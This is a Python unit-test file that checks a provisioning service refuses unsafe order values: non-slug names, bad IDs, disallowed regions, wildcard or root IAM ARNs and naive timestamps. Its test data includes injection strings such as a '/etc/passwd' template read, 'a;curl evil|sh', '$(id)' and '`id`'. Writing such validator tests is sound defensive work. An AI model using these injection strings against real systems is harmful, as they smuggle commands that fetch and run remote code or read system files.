"""What an order refuses: anything that could mean more than itself in a name, an ARN or a tag."""

from datetime import datetime
from typing import Any

import pytest

from jit_engine.errors import InvalidValue
from platform_api.provisioning.order import environment_names
from tests.unit.provisioning.orders import ENVIRONMENT, an_order


@pytest.mark.parametrize(
    "name",
    [
        '${file("/etc/passwd")}',
        "${AWS::AccountId}",
        "a;curl evil|sh",
        "$(id)",
        "`id`",
        "Credit Risk",
        "кредит",
        "credit-risk\n",
        "-credit",
        "credit-",
        "c" * 64,
        "",
    ],
)
@pytest.mark.case("PROV-011")
def test_an_activity_name_that_is_not_a_slug_is_refused(name: str) -> None:
    with pytest.raises(InvalidValue) as refusal:
        an_order(activity_name=name)
    assert refusal.value.field == "activity_name"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("environment_id", "en_short"),
        ("environment_id", "ac_01JABCDEFGHJKMNPQRSTVWXYZ0"),
        ("environment_id", "en_01JABCDEFGHJKMNPQRSTVWXYZ0\n"),
        ("activity_id", "en_01JABCDEFGHJKMNPQRSTVWXYZ0"),
        ("owner", ""),
        ("owner", "a${b}"),
        ("owner", "a" * 129),
        ("cost_center", "cc 1"),
        ("data_classification", "confidential\n"),
        ("account_id", "٠٠٠٠٠٠٠٠٠٠٠٠"),
        ("account_id", "12345678901"),
        ("region", "cn-north-1"),
        ("region", "us-gov-west-1"),
        ("region", "*"),
        ("lake_buckets", ("lake*",)),
        ("lake_buckets", ("lake/prefix",)),
        ("lake_buckets", ("${aws:username}",)),
        ("lake_buckets", ("la",)),
        ("lake_buckets", ("sg-ws-01jabcdefghjkmnpqrstvwxyz9",)),
        ("lake_buckets", ("sample-lake", "sample-lake")),
        ("broker_role_arn", "*"),
        ("broker_role_arn", "arn:aws:iam::000000000000:root"),
        ("broker_role_arn", "arn:aws:iam::000000000000:role/*"),
        ("expires_at", datetime(2027, 1, 1)),  # noqa: DTZ001  # the naive time is the point
    ],
)
@pytest.mark.case("PROV-010")
def test_a_value_that_could_mean_more_than_itself_is_refused(field: str, value: Any) -> None:
    with pytest.raises(InvalidValue) as refusal:
        an_order(**{field: value})
    assert refusal.value.field == field


def test_every_name_derives_from_the_id_of_the_environment_alone() -> None:
    first = environment_names(ENVIRONMENT)
    other = environment_names(ENVIRONMENT[:-1] + "9")
    assert first == environment_names(ENVIRONMENT)
    assert first.workspace == "sg-ws-01jabcdefghjkmnpqrstvwxyz0"
    for field in (
        "stack",
        "workspace",
        "boundary",
        "role",
        "log_group",
        "database",
        "workgroup",
        "repository",
    ):
        assert getattr(first, field) != getattr(other, field)
